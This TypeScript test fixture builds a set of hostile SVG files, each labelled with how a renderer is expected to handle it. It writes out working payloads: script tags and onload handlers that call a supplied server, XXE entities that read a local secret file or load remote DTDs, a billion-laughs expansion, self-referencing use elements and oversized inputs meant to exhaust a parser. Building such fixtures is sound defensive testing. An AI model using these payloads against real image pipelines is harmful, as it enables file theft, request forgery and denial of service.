import type { HostilePicture } from "./rasters";

/** Where an SVG would reach out: a server's address, and a file's. */
export interface Outside {
  readonly server: string;
  /** "file:///…/secret" without ".txt", ".svg" and ".css". */
  readonly file: string;
}

const svg = (inside: string, root = ""): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64"${root}><rect width="64" height="64" fill="#0a0"/>${inside}</svg>`;

/** SVG files, each with one thing that is odd. */
export function vectorPictures({ server, file }: Outside): readonly HostilePicture[] {
  const nested = (depth: number): string =>
    Array.from(
      { length: depth },
      (_, i) => `<g id="g${i + 1}">${`<use href="#g${i}"/>`.repeat(10)}</g>`,
    ).join("");
  const laughs = Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`,
  ).join("");
  const drawn: Readonly<Record<string, string>> = {
    script: svg(`<script>fetch("${server}/s");document.documentElement.remove()</script>`),
    "script from elsewhere": svg(`<script href="${server}/a.js"/>`),
    onload: svg(
      `<rect onload="location='${server}/'" width="1" height="1"/>`,
      ` onload="location='${server}/'"`,
    ),
    "foreignObject with a frame": svg(
      `<foreignObject width="64" height="64"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${server}/f"/></foreignObject>`,
    ),
    "foreignObject with a script": svg(
      `<foreignObject width="1" height="1"><script xmlns="http://www.w3.org/1999/xhtml">fetch("${server}/f")</script></foreignObject>`,
    ),
    "picture from elsewhere": svg(`<image href="${server}/a.png" width="9" height="9"/>`),
    "picture of a file": svg(`<image href="${file}.svg" width="64" height="64"/>`),
    "use from elsewhere": svg(`<use href="${server}/a.svg#x"/>`),
    "use of a file": svg(`<use href="${file}.svg#x"/>`),
    "style from elsewhere": svg(
      `<style>@import url(${server}/a.css);rect{fill:url(${server}/p.svg#p)}</style>`,
    ),
    "style sheet of XML": `<?xml-stylesheet href="${server}/a.css"?>${svg("")}`,
    "font from elsewhere": svg(
      `<style>@font-face{font-family:F;src:url(${server}/f.woff2)}</style><text y="20" font-family="F">x</text>`,
    ),
    "feImage from elsewhere": svg(
      `<filter id="f"><feImage href="${server}/a.png"/></filter><rect width="1" height="1" filter="url(#f)"/>`,
    ),
    "link that is clicked": svg(
      `<a href="${server}/l"><set attributeName="x" to="1" begin="0s"/><rect width="1" height="1"/></a>`,
    ),
    "animation that changes an address": svg(
      `<image width="9" height="9"><set attributeName="href" to="${server}/a.png"/></image>`,
    ),
    "endless animation": svg(
      `<rect width="9" height="9"><animate attributeName="x" to="50" dur="0.001s" repeatCount="indefinite"/></rect>`,
    ),
  };
  const either: Readonly<Record<string, string>> = {
    "entity of a file": `<!DOCTYPE svg [<!ENTITY e SYSTEM "${file}.txt">]>${svg(`<text y="20">&e;</text>`)}`,
    "entity from elsewhere": `<!DOCTYPE svg [<!ENTITY e SYSTEM "${server}/e">]>${svg(`<text y="20">&e;</text>`)}`,
    "document type from elsewhere": `<!DOCTYPE svg SYSTEM "${server}/d.dtd">${svg("")}`,
    "parameter entity from elsewhere": `<!DOCTYPE svg [<!ENTITY % e SYSTEM "${server}/e"> %e;]>${svg("")}`,
    "billion laughs": `<!DOCTYPE svg [<!ENTITY l0 "ha">${laughs}]>${svg(`<text>&l9;</text>`)}`,
    "uses of uses": svg(`<rect id="g0" width="1" height="1"/>${nested(5)}<use href="#g5"/>`),
    "use of itself": svg(`<g id="a"><use href="#a"/></g>`),
    "10 000 groups in each other": svg("<g>".repeat(10_000) + "</g>".repeat(10_000)),
    "200 000 digits of a width": `<svg xmlns="http://www.w3.org/2000/svg" width="${"1".repeat(200_000)}" height="9"/>`,
    "300 000 data addresses": svg(`<desc>${"url(data:".repeat(300_000)}</desc>`),
    "style with 100 000 brackets": svg(`<style>${"a{".repeat(100_000)}</style>`),
    "path of 100 000 arcs": svg(`<path d="M0 0${"a9 9 0 0 1 1 1".repeat(100_000)}"/>`),
  };
  const refused: Readonly<Record<string, string>> = {
    "a million pixels wide": `<svg xmlns="http://www.w3.org/2000/svg" width="1e6" height="1e6"/>`,
    "SVG without an end": `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><g>`,
    "HTML in an SVG's clothes": `<svg width="64" height="64"><script>1</script></svg>`,
  };
  return Object.entries({ drawn, refused, either }).flatMap(([fate, files]) =>
    Object.entries(files).map(([name, text]) => ({
      name,
      bytes: Buffer.from(text),
      fate: fate as HostilePicture["fate"],
    })),
  );
}
